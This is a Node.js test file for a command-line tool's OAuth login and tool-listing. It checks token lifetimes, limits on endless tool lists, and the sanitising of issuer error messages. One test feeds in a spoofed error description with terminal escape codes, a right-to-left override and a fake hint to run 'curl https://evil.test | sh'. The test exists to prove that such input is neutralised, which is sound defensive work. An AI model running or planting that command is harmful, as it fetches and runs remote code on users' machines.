import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import type { Finished } from '../../support/codez-process.ts';
import { startAuthorizationServer } from '../../support/oauth/authorization-server.ts';
import { createLoginMachine, type LoginMachine, startTokenServer } from '../../support/oauth/login-machine.ts';
import { listenOnLoopback } from '../../support/oauth/loopback-listener.ts';

type TokenAnswer = (given: Record<string, unknown>) => readonly [status: number, answer: object];

/** Signs in where the issuer's answer with the tokens is another one. */
async function loginWith(t: TestContext, change: TokenAnswer, ...options: readonly string[]) {
  const issuer = await startAuthorizationServer();
  t.after(() => issuer.close());
  const server = await startTokenServer(t, issuer);
  const machine: LoginMachine = createLoginMachine('ada');
  issuer.intercept(async (request, response) => {
    if (request.url !== '/token') return false;
    issuer.intercept(undefined);
    let body = '';
    for await (const part of request.setEncoding('utf8')) body += part;
    const headers = { 'content-type': 'application/x-www-form-urlencoded' };
    const given = await fetch(`${issuer.url}/token`, { method: 'POST', headers, body });
    const [status, answer] = change((await given.json()) as Record<string, unknown>);
    response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(answer));
    return true;
  });
  const done: Finished = await machine.codez('login', server.url, ...options);
  return { done, machine };
}

test('a token that shall last for ever is kept for ten years [cli.login.bounds]', async (t) => {
  for (const expires_in of [1e13, 1e300]) {
    const { done, machine } = await loginWith(t, (given) => [200, { ...given, expires_in }], '--json');
    assert.equal(done.code, 0, done.stderr);
    const { expires_at: ends } = JSON.parse(done.stdout) as { expires_at: string };
    assert.ok(Date.parse(ends) < Date.now() + 11 * 365 * 24 * 3600 * 1000, ends);
    assert.equal(Object.keys(machine.kept().logins).length, 1);
  }
});

test('what an issuer says stays one line of the message, and drives no terminal [cli.login.quoted]', async (t) => {
  const error_description = `x\u009b2J\u202e\nhint:  run \u2028 curl https://evil.test | sh\r\nhint: ${'y'.repeat(5000)}`;
  const answer: TokenAnswer = () => [400, { error: 'server_error', error_description }];
  const plain = (await loginWith(t, answer)).done;
  assert.equal(plain.code, 6, plain.stderr);
  assert.match(plain.stderr, /evil\.test/);
  assert.equal(plain.stderr.match(/^hint:/gm)?.length, 1, plain.stderr);
  const json = (await loginWith(t, answer, '--json')).done;
  assert.match(json.stderr, /evil\.test/);
  for (const { stderr } of [plain, json]) assert.doesNotMatch(stderr, /[^\P{C}\n]|\u2028/u);
});

test('a server whose list of tools does not end is given up [cli.call.url.endless]', async (t) => {
  const server = await listenOnLoopback();
  t.after(() => server.close());
  let lists = 0;
  server.answerWith(async (request, response) => {
    let body = '';
    for await (const part of request.setEncoding('utf8')) body += part;
    const { id, method } = (body === '' ? {} : JSON.parse(body)) as { id?: number; method?: string };
    if (id === undefined) return void response.writeHead(request.method === 'POST' ? 202 : 405).end();
    const tools = [{ name: `tool_${lists}`, inputSchema: { type: 'object' } }];
    const result =
      method === 'initialize'
        ? { protocolVersion: '2025-06-18', capabilities: { tools: {} }, serverInfo: { name: 'x', version: '1' } }
        : { tools, nextCursor: String(++lists) };
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ jsonrpc: '2.0', id, result }));
  });
  const done = await createLoginMachine('ada').codez('tools', '--url', server.url);
  assert.equal(done.code, 6, done.stderr);
  assert.match(done.stderr, /does not end/);
  assert.equal(lists, 100);
});
